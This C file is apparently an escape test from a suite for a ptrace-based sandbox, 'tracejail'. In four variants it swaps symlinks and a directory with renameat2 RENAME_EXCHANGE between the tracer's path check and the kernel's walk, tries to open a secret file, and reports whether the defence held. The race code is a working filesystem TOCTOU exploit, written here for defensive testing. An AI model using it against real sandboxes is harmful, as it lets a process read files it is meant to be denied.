/* tracejail-escape
 * id: race-symlink-open
 * class: filesystem races
 * title: swap symlinks (and a directory) between the tracer's check of a path and the kernel's walk
 * covered: basic
 * needs: secret
 *
 * Technique: the tracer resolves a path, following symlinks, at the syscall stop; the kernel
 * walks it again once the call goes on. In TJ_SCRATCH a loop swaps two names atomically (renameat2
 * RENAME_EXCHANGE) while open() is called 20000 times through one of them, four ways: (a) links to
 * TJ_DECOY and TJ_SECRET as the last component, (b) links to a decoy directory (with a file of the
 * secret's name) and TJ_SECRET_DIR midway, (c) as (a), flipped by a forked process, (d) that decoy
 * directory itself swapped with a link to TJ_SECRET_DIR. The fd says what each open reached.
 * Defence: tracejail hands the kernel the path it checked with every symlink resolved, as openat2
 * with RESOLVE_NO_SYMLINKS|RESOLVE_NO_MAGICLINKS (tracer/pin.cc): the kernel opens the file that
 * was checked whatever the links say by then, and a symlink swapped in on that path after the
 * check, as in (d), makes the walk fail with ELOOP instead of reaching another file; Landlock
 * (strict and up) checks the same rules in the kernel.
 */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "escape.h"

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

enum { kAttempts = 20000, kErrnos = 256 };
static const long kPaceNs = 30000;    /* the longest an open waits for the flipper to swap */
static const long kWayNs = 15000000000L;  /* a way's time budget (see hammer) */
static const long kGapNs = 100000;    /* the flipper's mean pause between two swaps */

/* What the flipper shares with the opener: in a MAP_SHARED mapping, so a forked flipper works
   the same as a thread. */
struct flip_state {
  atomic_int stop;
  atomic_int err;     /* renameat2's errno when it failed (the flipper then stops) */
  atomic_long swaps;  /* exchanges done */
};

static struct flip_state *fs;
static char scratch[PATH_MAX], link_a[PATH_MAX + 16], link_b[PATH_MAX + 16];

static long now_ns(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec * 1000000000L + t.tv_nsec;
}

/* Exchange link_a and link_b until told to stop. Only syscalls (and the vDSO clock): safe in a
   forked child too. After each swap it spins for 50 to 150 us (out of any syscall, no sleep), a
   varying time so the swaps do not fall into step with the opens. Without the pause a tracer that
   serves the first stopped task it finds may serve this loop's renameat2 over and over and the
   opener's open next to never (seen at strict: the sample then ran into its timeout). */
static void flip(void) {
  unsigned x = 2463534242u;
  while (!atomic_load_explicit(&fs->stop, memory_order_relaxed)) {
    if (syscall(SYS_renameat2, AT_FDCWD, link_a, AT_FDCWD, link_b, RENAME_EXCHANGE) != 0) {
      atomic_store(&fs->err, errno);
      return;
    }
    atomic_fetch_add_explicit(&fs->swaps, 1, memory_order_relaxed);
    x ^= x << 13, x ^= x >> 17, x ^= x << 5;
    for (long until = now_ns() + kGapNs / 2 + x % kGapNs; now_ns() < until;)
      if (atomic_load_explicit(&fs->stop, memory_order_relaxed)) break;
  }
}

static void *flip_thread(void *arg) {
  (void)arg;
  flip();
  return NULL;
}

struct counts {
  long attempts, secret, decoy, elsewhere, failed;
  long err[kErrnos];
};

/* The victim loop: open the racing name, then ask the fd what it is. When the flipper has fallen
   behind (fewer swaps than a quarter of the opens so far), it first spins up to kPaceNs for the
   next swap: under a tracer the opener's stops tend to be served first, and an unpaced flipper
   gets a few dozen swaps in 20000 opens, too few to land between a check and a walk. */
static void hammer(const char *path, const struct stat *decoy_st, struct counts *c) {
  memset(c, 0, sizeof *c);
  /* A slow build (sanitizers) on a loaded machine may not finish 20000 opens in the selftest's
     time per sample: each way stops after kWayNs, and its line says how many opens it made. */
  long deadline = now_ns() + kWayNs;
  for (int i = 0; i < kAttempts && now_ns() < deadline; ++i, ++c->attempts) {
    long seen = atomic_load_explicit(&fs->swaps, memory_order_relaxed);
    for (long until = seen < i / 4 ? now_ns() + kPaceNs : 0; now_ns() < until;)
      if (atomic_load_explicit(&fs->swaps, memory_order_relaxed) != seen ||
          atomic_load_explicit(&fs->err, memory_order_relaxed) != 0)
        break;
    int fd = open(path, O_RDONLY);
    if (fd < 0) {
      ++c->failed;
      ++c->err[errno > 0 && errno < kErrnos ? errno : 0];
      continue;
    }
    struct stat st;
    if (is_secret(fd)) {
      if (c->secret++ == 0 && token[0] == '\0') {
        ssize_t r = pread(fd, token, sizeof token - 1, 0);
        token[r > 0 ? r : 0] = '\0';
        token[strcspn(token, "\n")] = '\0';
      }
    } else if (fstat(fd, &st) == 0 && st.st_dev == decoy_st->st_dev &&
               st.st_ino == decoy_st->st_ino) {
      ++c->decoy;
    } else {
      ++c->elsewhere;
    }
    close(fd);
  }
}

/* One line of counts, then the way's verdict for the final line. */
static void report(const char *way, const struct counts *c) {
  long swaps = atomic_load(&fs->swaps), other = c->failed - c->err[ELOOP] - c->err[EACCES];
  int flip_err = atomic_load(&fs->err);
  char line[1024], more[512] = "";
  int len = snprintf(line, sizeof line, "%s: %d opens: secret=%ld decoy=%ld ELOOP=%ld EACCES=%ld "
                     "other=%ld", way, (int)c->attempts, c->secret, c->decoy, c->err[ELOOP],
                     c->err[EACCES], other);
  for (int e = 0; e < kErrnos && other > 0; ++e) {
    if (e == ELOOP || e == EACCES || c->err[e] == 0) continue;
    size_t used = strlen(more);
    snprintf(more + used, sizeof more - used, "%s%s=%ld", used ? " " : "", e ? ename(e) : "?",
             c->err[e]);
  }
  if (more[0]) len += snprintf(line + len, sizeof line - len, " (%s)", more);
  if (c->elsewhere)
    len += snprintf(line + len, sizeof line - len, " elsewhere=%ld", c->elsewhere);
  snprintf(line + len, sizeof line - len, "; %ld swaps%s%s", swaps,
           flip_err ? ", then renameat2 failed with " : "", flip_err ? ename(flip_err) : "");
  printf("%s\n", line);
  /* The decoy opens (really opened, not refused) show the race ran: the name led to each file. */
  if (swaps == 0)
    printf("%s: the race did not run (no swap took place)\n", way);
  else if (c->decoy > 0 && c->decoy < c->attempts)
    printf("%s: the race ran: the name opened the decoy %ld times and led elsewhere (the secret, "
           "or a refusal) %ld times\n", way, c->decoy, c->attempts - c->decoy);
  else
    printf("%s: the race did not show: the name led to the same place all %ld times\n", way,
           c->attempts);

  char what[512];
  if (c->secret > 0) {
    snprintf(what, sizeof what, "read the secret \"%s\" in %ld of %ld opens (decoy %ld)", token,
             c->secret, c->attempts, c->decoy);
    got_through(way, what);
  } else if (swaps == 0) {
    snprintf(what, sizeof what, "no race: renameat2 %s", flip_err ? ename(flip_err) : "never ran");
    stopped(way, what);
  } else {
    snprintf(what, sizeof what, "secret=0, decoy %ld, ELOOP %ld, EACCES %ld, other %ld%s%s%s",
             c->decoy, c->err[ELOOP], c->err[EACCES], other, more[0] ? " (" : "", more,
             more[0] ? ")" : "");
    stopped(way, what);
  }
}

static void fail(const char *way, const char *step) {
  int err = errno;
  char what[96];
  snprintf(what, sizeof what, "%s %s", step, ename(err));
  stopped(way, what);
}

/* scratch/a -> target_a and scratch/b -> target_b, the pair the flipper exchanges. */
static int make_links(const char *a, const char *target_a, const char *b, const char *target_b) {
  snprintf(link_a, sizeof link_a, "%s/%s", scratch, a);
  snprintf(link_b, sizeof link_b, "%s/%s", scratch, b);
  unlink(link_a);
  unlink(link_b);
  return symlink(target_a, link_a) == 0 && symlink(target_b, link_b) == 0;
}

static void drop_links(void) {
  unlink(link_a);
  unlink(link_b);
}

/* One way with a thread flipping link_a and link_b while `path` is opened. */
static void race_thread(const char *way, const char *path, const struct stat *decoy_st) {
  atomic_store(&fs->stop, 0);
  atomic_store(&fs->err, 0);
  atomic_store(&fs->swaps, 0);
  pthread_t t;
  int err = pthread_create(&t, NULL, flip_thread, NULL);
  if (err != 0) {
    errno = err;
    fail(way, "pthread_create");
    return;
  }
  static struct counts c;
  hammer(path, decoy_st, &c);
  atomic_store(&fs->stop, 1);
  pthread_join(t, NULL);
  report(way, &c);
}

int main(void) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  secret = env("TJ_SECRET");
  const char *secret_dir = env("TJ_SECRET_DIR");
  const char *decoy = env("TJ_DECOY");
  if (realpath(env("TJ_SCRATCH"), scratch) == NULL) {
    fprintf(stderr, "race_symlink_open: TJ_SCRATCH: %s\n", strerror(errno));
    return 2;
  }
  secret_st_known = stat(secret, &secret_st) == 0;
  const char *base = strrchr(secret, '/') + 1;  /* "secret.txt" */
  struct stat decoy_st;
  if (stat(decoy, &decoy_st) != 0) {
    fprintf(stderr, "race_symlink_open: TJ_DECOY: %s\n", strerror(errno));
    return 2;
  }
  fs = mmap(NULL, sizeof *fs, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
  if (fs == MAP_FAILED) {
    fprintf(stderr, "race_symlink_open: mmap: %s\n", strerror(errno));
    return 2;
  }
  char path[2 * PATH_MAX];

  /* (a) The final component: scratch/fa is the decoy's link or the secret's. */
  const char *way = "(a) final-symlink";
  if (make_links("fa", decoy, "fb", secret)) {
    printf("%s: open(%s) while fa <-> fb (-> TJ_DECOY, -> TJ_SECRET) swap\n", way, link_a);
    race_thread(way, link_a, &decoy_st);
  } else {
    fail(way, "symlink");
  }
  drop_links();

  /* (b) An intermediate component: scratch/da/<name> is in the decoy directory or the secret's. */
  way = "(b) dir-symlink";
  char decoy_dir[PATH_MAX + 16], decoy_file[2 * PATH_MAX];
  snprintf(decoy_dir, sizeof decoy_dir, "%s/decoydir", scratch);
  snprintf(decoy_file, sizeof decoy_file, "%s/%s", decoy_dir, base);
  int dfd = mkdir(decoy_dir, 0755) == 0 || errno == EEXIST
                ? open(decoy_file, O_WRONLY | O_CREAT | O_TRUNC, 0644)
                : -1;
  struct stat dir_decoy_st;
  static const char text[] = "a decoy with the secret's name, not the secret\n";
  int dir_ok = dfd >= 0 && write(dfd, text, sizeof text - 1) == (ssize_t)(sizeof text - 1) &&
               fstat(dfd, &dir_decoy_st) == 0;
  if (!dir_ok) {
    fail(way, "create scratch/decoydir/<name>");
  } else if (make_links("da", decoy_dir, "db", secret_dir)) {
    snprintf(path, sizeof path, "%s/%s", link_a, base);
    printf("%s: open(%s) while da <-> db (-> scratch/decoydir, -> TJ_SECRET_DIR) swap\n", way,
           path);
    race_thread(way, path, &dir_decoy_st);
  } else {
    fail(way, "symlink");
  }
  if (dfd >= 0) close(dfd);
  drop_links();

  /* (c) As (a), but the flipper is a forked process: another task, same filesystem. */
  way = "(c) final-symlink, forked flipper";
  if (make_links("fa", decoy, "fb", secret)) {
    printf("%s: open(%s) while a child process swaps fa <-> fb\n", way, link_a);
    atomic_store(&fs->stop, 0);
    atomic_store(&fs->err, 0);
    atomic_store(&fs->swaps, 0);
      pid_t parent = getpid();
    pid_t pid = fork();
    if (pid == 0) {
      /* Never outlive the opener, whatever happens to it. */
      prctl(PR_SET_PDEATHSIG, SIGKILL);
      if (getppid() == parent) flip();
      _exit(0);
    }
    if (pid > 0) {
      static struct counts c;
      hammer(link_a, &decoy_st, &c);
      atomic_store(&fs->stop, 1);
      if (waitpid(pid, NULL, 0) != pid) {
        kill(pid, SIGKILL);
        waitpid(pid, NULL, 0);
      }
      report(way, &c);
    } else {
      fail(way, "fork");
    }
  } else {
    fail(way, "symlink");
  }
  drop_links();

  /* (d) A directory on the checked path itself swapped for a symlink: scratch/decoydir (a real
     directory) <-> scratch/db (-> TJ_SECRET_DIR). The tracer resolves decoydir/<name> to itself
     (no symlink on the way) or to the secret; in the first case the kernel's walk may then meet
     the symlink where the directory was. */
  way = "(d) dir swapped for a symlink";
  snprintf(link_a, sizeof link_a, "%s", decoy_dir);
  snprintf(link_b, sizeof link_b, "%s/db", scratch);
  unlink(link_b);
  if (!dir_ok) {
    stopped(way, "no scratch/decoydir");
  } else if (symlink(secret_dir, link_b) == 0) {
    printf("%s: open(%s) while decoydir <-> db (a directory, -> TJ_SECRET_DIR) swap\n", way,
           decoy_file);
    race_thread(way, decoy_file, &dir_decoy_st);
    struct stat st;
    if (lstat(decoy_dir, &st) == 0 && S_ISLNK(st.st_mode))  /* the directory is at db now */
      syscall(SYS_renameat2, AT_FDCWD, link_a, AT_FDCWD, link_b, RENAME_EXCHANGE);
  } else {
    fail(way, "symlink");
  }
  unlink(link_b);
  unlink(decoy_file);
  rmdir(decoy_dir);
  munmap(fs, sizeof *fs);

  return final_line();
}
